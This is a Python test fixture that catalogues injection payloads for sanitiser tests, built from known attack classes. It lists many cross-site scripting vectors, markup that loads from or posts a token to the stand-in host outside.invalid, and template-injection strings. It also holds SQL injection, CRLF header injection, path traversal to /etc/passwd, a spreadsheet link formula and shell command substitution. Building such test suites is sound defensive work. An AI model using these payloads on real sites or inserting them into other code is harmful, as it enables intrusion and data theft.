"""Strings that try to become markup, script, addresses or format, by the way in which they try.

Each acts, if it can, so that a test sees it: it makes an element `x-hostile`, sets `HOSTILE`,
opens a dialog, or asks `outside.invalid` for something. Written for these tests, from the known
classes of such attacks.
"""

from __future__ import annotations

ACT = "top.HOSTILE=1;alert(1)"
OUT = "https://outside.invalid"
MARK = "<x-hostile></x-hostile>"

# Markup that runs script as it is read.
SCRIPTS = (
    f"<script>{ACT}</script>",
    f"<SCRIPT>{ACT}</SCRIPT>",
    f"<script src={OUT}/a.js></script>",
    "<script src=//outside.invalid/a.js></script>",
    f"<script type=module>import '{OUT}/a.js'</script>",
    f"<script/random>{ACT}</script>",
    f"<script\n>{ACT}</script\n>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<<script>{ACT}//<</script>",
    f"<script>{ACT}<!--",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><script href='{OUT}/a.js'/></svg>",
    f"<math><script>{ACT}</script></math>",
    f"<template><script>{ACT}</script></template>{MARK}",
    f"<noscript><script>{ACT}</script></noscript>{MARK}",
)

# Elements with a handler that fires by itself, or at the first touch.
HANDLED = {
    "img src=x": "onerror",
    "img src=x:": "onError",
    "img srcset=x": "onerror",
    "image src=x": "onerror",
    "svg": "onload",
    "body": "onload",
    "body onpageshow=1": "onhashchange",
    "input autofocus": "onfocus",
    "select autofocus": "onfocus",
    "textarea autofocus": "onfocus",
    "button autofocus": "onfocus",
    "a href=# tabindex=0 autofocus": "onfocus",
    "details open": "ontoggle",
    "video src=x": "onerror",
    "video><source": "onerror",
    "audio src=x": "onerror",
    "marquee": "onstart",
    "iframe": "onload",
    "frameset": "onload",
    "object data=x": "onerror",
    "embed src=x": "onload",
    "link rel=stylesheet href=x": "onerror",
    "style": "onload",
    "svg><animate attributeName=x dur=1s": "onbegin",
    "svg><set attributeName=x": "onbegin",
    "xss style=animation:spin contenteditable tabindex=0": "onanimationstart",
    "dialog open": "onclose",
    "p tabindex=0": "onmouseover",
    "div draggable=true": "ondragstart",
    "form": "onsubmit",
    "input type=image src=x": "onerror",
    "bgsound src=x": "onerror",
}
HANDLERS = tuple(f"<{start} {handler}={ACT}>" for start, handler in HANDLED.items())
HANDLER_SPELLINGS = tuple(
    spelling.format(act=ACT)
    for spelling in (
        "<img src=x onerror='{act}'>",
        '<img src=x onerror="{act}">',
        "<img src=x onerror=`{act}`>",
        "<img/src=x/onerror={act}>",
        "<img\tsrc=x\tonerror={act}>",
        "<img\nsrc=x\nonerror={act}\n>",
        "<img src=x\x0conerror={act}>",
        "<IMG SRC=x ONERROR={act}>",
        "<img src=x onerror={act}//",
        "<img src=x onerror=&#116;op.HOSTILE=1>",
        "<svg/onload=&Tab;{act}>",
        "<img src=x onerror=\\u0074op.HOSTILE=1>",
        "<img src='x'onerror={act}>",
    )
)

# Out of an attribute, an element or a comment that the string was put into.
BREAKS = tuple(
    start + MARK
    for start in (
        '">', "'>", "`>", ">", "/>", '"/>', "-->", "--!>", "]]>", "?>", "%>", "}}>", '\\">', "\\'>",
        "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</option></select>",
        "</template>", "</iframe>", "</xmp>", "</svg>", "</math>", "</a>", "</table>", "</dialog>",
        "</blockquote></article></li></ol>", "</pre></main></body></html>", "<!--", "<![CDATA[",
        "<plaintext>", "<xmp>", "<textarea>", "<title>",
    )
)  # fmt: skip
ATTRIBUTES = (
    f'" onmouseover="{ACT}" x="',
    f"' onfocus='{ACT}' autofocus='",
    f"` onclick=`{ACT}`",
    f" onpointerenter={ACT} ",
    f'" autofocus tabindex=0 onfocus="{ACT}',
    f'" style="animation:x" onanimationend="{ACT}',
    f'" srcdoc="<script>{ACT}</script>',
    f'" href="javascript:{ACT}',
    f'" formaction="javascript:{ACT}',
    'x" id="review-data" data-island="map" data-json="x',
)

# Addresses that run, or that lead elsewhere.
ADDRESSES = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f" javascript:{ACT}",
    f"java\tscript:{ACT}",
    f"java\nscript:{ACT}",
    f"\x01javascript:{ACT}",
    f"javascript&colon;{ACT}",
    f"javascript://%0a{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuSE9TVElMRT0xPC9zY3JpcHQ+",
    f"vbscript:{ACT}",
    f"blob:{OUT}/1",
    "file:///etc/passwd",
    "//outside.invalid/",
    "\\\\outside.invalid\\share",
    "/\\outside.invalid",
    f"{OUT}@127.0.0.1/",
    "http://127.0.0.1@outside.invalid/",
    f'{OUT}/?q="><x-hostile></x-hostile>',
    "view-source:javascript:1",
)

# Elements that load, send or lead away without any script.
LOADS = (
    f"<img src={OUT}/a.png>",
    f"<link rel=stylesheet href={OUT}/a.css>",
    f"<link rel=prefetch href={OUT}/>",
    f"<link rel=preconnect href={OUT}>",
    f"<link rel=icon href={OUT}/i.ico>",
    f"<style>@import '{OUT}/a.css';</style>",
    f"<style>*{{background:url({OUT}/a.png)}}</style>",
    f'<div style="background:url({OUT}/a.png)">{MARK}</div>',
    f"<meta http-equiv=refresh content='0;url={OUT}/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href={OUT}/>",
    f"<form action={OUT}/><input name=token><button>Save</button></form>",
    f"<button formaction={OUT}/>Save</button>",
    f"<iframe src={OUT}/></iframe>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    f"<object data={OUT}/></object>",
    f"<embed src={OUT}/>",
    f"<video poster={OUT}/p.png></video>",
    f"<audio src={OUT}/a.ogg autoplay></audio>",
    f"<a href={OUT}/ ping={OUT}/p>{MARK}</a>",
    f"<a href='javascript:{ACT}'>{MARK}</a>",
    f"<svg><image href={OUT}/a.png /></svg>",
    f"<svg><use href='{OUT}/a.svg#x' /></svg>",
    f"<svg><a xlink:href='javascript:{ACT}'><text>x</text></a></svg>",
    f"<table background={OUT}/a.png>{MARK}</table>",
)

# Trees that change their meaning when they are read a second time.
READ_TWICE = (
    f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    f"<svg><style><img src=x onerror={ACT}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={ACT}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ACT}>",
    f'<svg><p><style><g title="</style><img src=x onerror={ACT}>">',
    f'<svg></p><title><a id="</title><img src=x onerror={ACT}>">',
    f"<select><template><style><!--</style><a rel='--></style><img src=x onerror={ACT}>'>",
    f"<listing>&lt;img src=x onerror={ACT}&gt;</listing>",
    f"<textarea><img title='</textarea><img src=x onerror={ACT}>'>",
    f"<p id=\"<x-hostile>\" title='</p>{MARK}'>",
)

# Marks and script in other spellings, for whoever decodes once too often.
ENCODED = (
    "&lt;x-hostile&gt;&lt;/x-hostile&gt;",
    "&amp;lt;x-hostile&amp;gt;",
    "&#60;x-hostile&#62;",
    "&#x3c;x-hostile&#x3e;",
    "&#0000060x-hostile>",
    "%3Cx-hostile%3E%3C/x-hostile%3E",
    "%253Cx-hostile%253E",
    "\\x3cx-hostile\\x3e",
    "\\u003cx-hostile\\u003e",
    "\\74x-hostile\\76",
    "+ADw-script+AD4-top.HOSTILE=1+ADw-/script+AD4-",
    "\uff1cscript\uff1etop.HOSTILE=1\uff1c/script\uff1e",
    "\u2039x-hostile\u203a \u3008x-hostile\u3009",
    "<\u200bx-hostile>",
    "\ufeff<x-hostile>",
    "<x-hostile\u00a0a=1>",
)

# Out of a string of script or JSON, or into a template.
STRINGS = (
    f'";{ACT};//',
    f"';{ACT};//",
    f"`;{ACT};//",
    f"\\';{ACT};//",
    f"</script><script>{ACT}</script>",
    f"<!--<script>{ACT}//-->",
    f"\u2028{ACT}\u2029",
    f'"}},"x":"{ACT}',
    '{"__proto__": {"incident_id": "x"}}',
    "__proto__",
    "constructor",
    "toString",
    "${" + ACT + "}",
    "{{7*7}}{{constructor.constructor('top.HOSTILE=1')()}}",
    "{% for x in range(9) %}<x-hostile>{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{#if true}{@html '<x-hostile>'}{/if}",
    "#{7*7} <%= 7*7 %> *{7*7}",
    "@{7*7} [[${7*7}]]",
    "%s%s%n%x {0.__class__}",
)

# Names that hide the page's own, and text that is hard to show.
NAMES_AND_SHAPES = (
    "<form id=cookie><input name=getElementById></form><x-hostile>",
    "<a id=location href=//outside.invalid></a><x-hostile>",
    "<img name=currentScript><img name=querySelectorAll>",
    "<div data-island=map data-json=x>",
    "<script type=application/json id=review-data>{}</script>",
    "\u202egnp.exe\u202c <x-hostile>",
    "\u2066\u2067\u2068<x-hostile>\u2069",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 4,
    "W" * 400,
    "\u0001\u0008\u001b[31mred\u001b[0m",
    "line\r\nSet-Cookie: hostile=1\r\n\r\n<x-hostile>",
    '=HYPERLINK("https://outside.invalid")',
    "'; DROP TABLE reports; --",
    "../../../etc/passwd\\..\\..",
    "\U0001f4a5\U0001f468\u200d\U0001f469\u200d\U0001f467 <x-hostile>",
    "$(touch hostile) `id` | id",
)

PAYLOADS = (
    *SCRIPTS, *HANDLERS, *HANDLER_SPELLINGS, *BREAKS, *ATTRIBUTES, *ADDRESSES, *LOADS,
    *READ_TWICE, *ENCODED, *STRINGS, *NAMES_AND_SHAPES,
)  # fmt: skip

TOGETHER = 24


def chunks() -> list[tuple[str, ...]]:
    """The payloads, some at a time: each of these fills every text field of one incident.

    Neighbours are of different classes, so that one that swallows what follows it (an open
    comment, an open element) swallows little of its own class.
    """
    groups = -(-len(PAYLOADS) // TOGETHER)
    return [PAYLOADS[number::groups] for number in range(groups)]
